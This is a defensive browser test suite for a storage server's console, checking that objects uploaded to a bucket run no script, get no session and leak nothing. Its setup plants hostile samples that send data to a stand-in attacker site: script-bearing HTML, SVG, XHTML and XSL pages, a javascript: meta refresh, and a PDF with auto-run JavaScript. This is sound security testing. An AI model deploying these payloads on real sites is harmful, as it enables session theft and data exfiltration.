// What others put under our address, or serve beside it, does not become the console: it runs nowhere,
// is no page of our origin, and gets no session. And what honest pages do with buckets still works.
import assert from "node:assert/strict";
import { after, afterEach, before, beforeEach, describe, it } from "node:test";
import { newPage, startBrowser } from "./support/browser.mjs";
import { becomes, eventually } from "./support/eventually.mjs";
import { Screen } from "./support/screen.mjs";
import { ROOT_PASSWORD, setRootPassword, startServer } from "./support/server.mjs";
import { loot, openBucket, startOtherSite } from "./support/otherSite.mjs";
import { signIn } from "./walk.mjs";
import { WORDS } from "./words.mjs";

const words = WORDS.ja;
const BUCKET = "open-house";
const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);

let server, browser, bucket, otherSite, screen, origin;

before(async () => {
  [server, browser] = await Promise.all([startServer(), startBrowser()]);
  origin = `http://localhost:${server.port}`;
  await setRootPassword(server);
  bucket = await openBucket(server, BUCKET);
  otherSite = await startOtherSite();
  await fill();
  // The victim: signed in, by the form, in a tab that stays open.
  screen = new Screen(await newPage(browser, { origin }));
  await screen.go("/");
  await signIn(screen, words, { password: ROOT_PASSWORD });
  await screen.isAt(words.home.title);
});
after(async () => {
  await otherSite?.stop();
  await browser?.close();
  await server?.stop();
});
beforeEach(() => screen.go("/"));
afterEach(async () => {
  for (const page of screen.context.pages()) if (page !== screen.page) await page.close();
});

/** The attacker's objects. */
async function fill() {
  const script = loot(otherSite);
  const page = `<!doctype html><title>page</title><script>${script}</script>`;
  const inText = script.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
  const xhtml = 'xmlns="http://www.w3.org/1999/xhtml"';
  const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
    <xsl:template match="/"><html><script>${inText}</script></html></xsl:template></xsl:stylesheet>`;
  await bucket.put("page.html", "text/html", page);
  await bucket.put("page.bin", "application/octet-stream", page);
  await bucket.put("page.xhtml", "application/xhtml+xml", `<html ${xhtml}><head><title>x</title><script>${inText}</script></head></html>`);
  await bucket.put("picture.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>${inText}</script></svg>`);
  await bucket.put("script.xml", "text/xml", `<a><script ${xhtml}>${inText}</script></a>`);
  await bucket.put("sheet.xsl", "text/xsl", sheet);
  await bucket.put("styled.xml", "text/xml", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="sheet.xsl"?><a/>');
  await bucket.put("parts", "multipart/x-mixed-replace; boundary=b", `--b\r\ncontent-type: text/html\r\n\r\n${page}\r\n--b--`);
  await bucket.put("paper.pdf", "application/pdf", pdf(`${otherSite.origin}/received?text=pdf`));
  const frames = [
    `<iframe src="data:text/html,${encodeURIComponent(page)}"></iframe>`,
    `<iframe srcdoc="${page.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}"></iframe>`,
    `<object data="page.html"></object><embed src="page.html"><iframe src="page.html"></iframe>`,
    `<script src="worker.js"></script><img src="${otherSite.origin}/received?text=picture">`,
    `<form action="${otherSite.origin}/received"><input name="text" value="form" autofocus></form>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${encodeURIComponent(script)}">`,
  ];
  await bucket.put("frames.html", "text/html", `<!doctype html>${frames.join("\n")}`);
  const asBlob = `location = URL.createObjectURL(new Blob([${JSON.stringify(page).replaceAll("</", "<\\/")}], { type: "text/html" }))`;
  await bucket.put("blob.html", "text/html", `<!doctype html><title>blob</title><script>${asBlob}</script>`);
  await bucket.put("worker.js", "text/javascript", "self.dataset = 1; globalThis.postMessage?.('ran', '*');");
  await bucket.put("sheet.css", "text/css", "body { outline: 7px solid red }");
  await bucket.put("pixel.png", "image/png", PIXEL);
  await bucket.put("pixel.bin", "application/octet-stream", PIXEL);
}

/** A page that runs a script when it is opened, and opens an address. */
const pdf = (address) => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O 5 0 R>>>>endobj
4 0 obj<</S/JavaScript/JS(app.launchURL\\("${address}"\\); this.submitForm\\("${address}"\\);)>>endobj
5 0 obj<</S/URI/URI(${address})>>endobj
trailer<</Root 1 0 R>>
`;

/** Opens an address in a tab beside the console's, and gives the tab; `undefined` for a download. */
async function visit(address, { sameTab = false } = {}) {
  const page = sameTab ? screen.page : await screen.context.newPage();
  const download = page.waitForEvent("download").catch(() => undefined);
  const refused = await page.goto(address).then(() => undefined, (error) => error);
  if (!refused) return page;
  assert.match(refused.message, /ERR_ABORTED|Download is starting/);
  await download;
  return undefined;
}

/** The other site received nothing: a word that is sent last has arrived, and it is the only one. */
async function assertNothingReceived() {
  const page = await screen.context.newPage();
  const last = `last of ${otherSite.received.length}`;
  await page.goto(`${otherSite.origin}/received?text=${encodeURIComponent(last)}`);
  await eventually("the other site receives it", () => otherSite.received.includes(last));
  const received = otherSite.received.splice(0);
  assert.deepEqual(received.map((text) => text.slice(0, 120)), [last]);
  await page.close();
}

/** A document that runs nothing and is of no origin. */
async function assertInert(page) {
  const { ran, own } = await page.evaluate(() => ({
    ran: document.documentElement?.hasAttribute("data-ran") ?? false,
    own: self.origin,
  }));
  assert.deepEqual({ ran, own }, { ran: false, own: "null" });
}

/** The victim's session goes on. */
async function assertSignedIn() {
  await screen.page.goto("/_console/#/kms/keys");
  await screen.page.reload();
  await screen.isAt(words.kms.keys);
}

const DOCUMENTS = ["page.html", "page.xhtml", "picture.svg", "script.xml", "styled.xml", "frames.html", "blob.html"];

describe("an object in a bucket", () => {
  for (const name of DOCUMENTS) {
    it(`is inert however it is opened: ${name}`, async () => {
      const addresses = [bucket.path(name), bucket.virtualHost(name)];
      addresses.push(...(await Promise.all(addresses.map((address) => bucket.presigned(address)))));
      for (const address of addresses) await assertInert(await visit(address));
      await assertInert(await visit(addresses[0], { sameTab: true }));
      await assertNothingReceived();
      await assertSignedIn();
    });
  }

  it("is inert when its address requests that it is shown as a page", async () => {
    for (const kind of ["text/html", "image/svg+xml", "application/xhtml+xml"]) {
      for (const way of [bucket.path, bucket.virtualHost]) {
        const page = await visit(await bucket.presigned(way("page.bin"), { "response-content-type": kind }));
        await assertInert(page);
      }
    }
    await assertNothingReceived();
  });

  it("is inert in parts, and as a paper", async () => {
    for (const name of ["parts", "paper.pdf"]) {
      for (const address of [bucket.path(name), await bucket.presigned(bucket.path(name))]) {
        const page = await visit(address);
        await page?.close();
      }
    }
    await assertNothingReceived();
    await assertSignedIn();
  });

  it("is shown in no frame", async () => {
    otherSite.pages["/frame"] = `<iframe src="${bucket.path("page.html")}"></iframe><iframe src="${origin}/_console/"></iframe>`;
    const page = await visit(`${otherSite.origin}/frame`);
    const frames = await Promise.all(page.frames().slice(1).map((frame) => frame.evaluate(() => document.URL)));
    assert.deepEqual(frames, ["chrome-error://chromewebdata/", "chrome-error://chromewebdata/"]);
    await assertNothingReceived();
  });

  it("does not become a service worker, not even for the console", async () => {
    const script = new URL(bucket.path("worker.js")).pathname;
    const register = (page) =>
      page.evaluate((path) => navigator.serviceWorker.register(path).then(() => "registered", (error) => error.name), script);
    assert.equal(await register(screen.page), "SecurityError");
    const page = await visit(bucket.path("page.html"));
    const refused = await register(page).catch(() => "no service workers here");
    assert.notEqual(refused, "registered");
    // A page of ours without a policy, if there were one, would not get it either.
    const answer = await fetch(bucket.path("worker.js"), { headers: { "service-worker": "script" } });
    assert.equal(answer.status, 403);
    const held = await screen.page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
    assert.equal(held, 0);
  });

  it("is no script, module, worker, style or picture of the console", async () => {
    const places = { script: "worker.js", style: "sheet.css", picture: "pixel.png" };
    const urls = Object.fromEntries(Object.entries(places).map(([kind, key]) => [kind, new URL(bucket.path(key)).pathname]));
    const loaded = await screen.page.evaluate(async ({ script, style, picture }) => {
      const comes = (element, more) =>
        new Promise((resolve) => {
          element.onload = () => resolve(true);
          element.onerror = () => resolve(false);
          document.head.append(Object.assign(element, more));
        });
      const works = new Promise((resolve) => {
        try {
          const worker = new Worker(script);
          worker.onmessage = () => resolve(true);
          worker.onerror = () => resolve(false);
        } catch {
          resolve(false);
        }
      });
      return {
        script: await comes(document.createElement("script"), { src: script }),
        module: await import(script).then(() => true, () => false),
        worker: await works,
        style: await comes(document.createElement("link"), { rel: "stylesheet", href: style }),
        picture: await comes(new Image(), { src: picture }),
      };
    }, urls);
    assert.deepEqual(loaded, { script: false, module: false, worker: false, style: false, picture: false });
  });
});

describe("another web application on the same machine", () => {
  it("gets the cookie, and no session for it", async () => {
    // Cookies are not bound to ports: at this path the browser sends the console's cookie.
    await visit(`${otherSite.origin}/_console/anything`);
    const cookie = otherSite.cookies.find((text) => text.includes("shoseki_console="));
    assert.ok(cookie, "browsers do not send it any more: this test is not needed");
    for (const host of [origin, server.origin]) {
      for (const method of ["GET", "DELETE"]) {
        for (const more of [{}, { "x-shoseki-session-secret": "" }, { "x-shoseki-session-secret": "0".repeat(64) }]) {
          const answer = await fetch(`${host}/_console/session`, { method, headers: { cookie, ...more } });
          assert.equal(answer.status, 401);
          assert.deepEqual(await answer.json(), { code: "NoSession" });
          assert.equal(answer.headers.get("set-cookie"), null);
        }
      }
    }
    await assertSignedIn();
  });

  it("cannot ask in the browser's name", async () => {
    const page = await visit(`${otherSite.origin}/received?text=`);
    const answers = await page.evaluate(async (own) => {
      const ask = (path, more) => fetch(own + path, { credentials: "include", ...more }).then(() => "answered", () => "refused");
      return [
        await ask("/_console/session"),
        await ask("/_console/session", { headers: { "x-shoseki-session-secret": "0" } }),
        await ask("/_console/session", { method: "DELETE" }),
        await ask("/_console/", { mode: "no-cors" }),
        await ask("/_console/assets/index.js", { mode: "no-cors" }),
        await ask("/_shoseki/health", { mode: "no-cors" }),
        await new Promise((resolve) => {
          const tabs = new BroadcastChannel("shoseki.session");
          tabs.onmessage = () => resolve("answered");
          tabs.postMessage({ kind: "asks" });
          setTimeout(() => resolve("refused"), 500);
        }),
      ];
    }, origin);
    assert.deepEqual(answers, Array(7).fill("refused"));
    otherSite.received.length = 0;
    await assertSignedIn();
  });
});

describe("an honest page", () => {
  it("shows pictures of a bucket, of any type", async () => {
    const sources = await Promise.all(["pixel.png", "pixel.bin"].map((key) => bucket.presigned(bucket.path(key))));
    sources.push(bucket.path("pixel.png"), bucket.virtualHost("pixel.bin"));
    otherSite.pages["/album"] = sources.map((source) => `<img src="${source.replaceAll("&", "&amp;")}">`).join("");
    const page = await visit(`${otherSite.origin}/album`);
    await becomes(() => page.evaluate(() => [...document.images].map((image) => image.naturalWidth)), [1, 1, 1, 1]);
    // By itself, too.
    const alone = await visit(sources[0]);
    await becomes(() => alone.evaluate(() => document.images[0].naturalWidth), 1);
  });

  it("downloads, also by a frame", async () => {
    const query = { "response-content-disposition": 'attachment; filename="kept.html"' };
    const address = await bucket.presigned(bucket.path("page.html"), query);
    otherSite.pages["/load"] = `<iframe src="${address.replaceAll("&", "&amp;")}"></iframe>`;
    for (const way of [address, `${otherSite.origin}/load`]) {
      const page = await screen.context.newPage();
      const begun = page.waitForEvent("download");
      await page.goto(way).catch(() => undefined);
      const download = await begun;
      assert.equal(download.suggestedFilename(), "kept.html");
      assert.equal(await download.failure(), null);
      await page.close();
    }
  });

  it("sends a form to a bucket and is shown what follows", async () => {
    const back = `${otherSite.origin}/thanks`;
    otherSite.pages["/thanks"] = "<title>thanks</title>";
    const form = (target, fields) =>
      `<form method="post" enctype="multipart/form-data" action="${bucket.path("")}" target="${target}">${Object.entries(fields)
        .map(([name, value]) => `<input name="${name}" value="${value}">`)
        .join("")}<input name="file" value="bytes"><button>send</button></form>`;
    await bucket.allow("s3:GetObject", "s3:PutObject");
    for (const target of ["_self", "inside"]) {
      otherSite.pages["/form"] = `<iframe name="inside"></iframe>${form(target, { key: `sent-${target}`, success_action_redirect: back })}`;
      const page = await visit(`${otherSite.origin}/form`);
      await page.getByRole("button").click();
      const frame = () => (target === "_self" ? page.mainFrame() : page.frame("inside"));
      await eventually("the page that follows", () => frame().url().startsWith(back));
      // Closing a page while it navigates may never end.
      await page.waitForLoadState();
      await page.close();
    }
    const page = await visit(`${otherSite.origin}/form`);
    await page.evaluate(() => {
      document.forms[0].target = "_self";
      document.forms[0].elements.success_action_redirect.name = "success_action_status";
      document.forms[0].elements.success_action_status.value = "201";
    });
    await page.getByRole("button").click();
    await page.waitForURL(bucket.path(""));
    assert.match(await page.content(), /sent-inside/);
    await assertInert(page);
  });
});
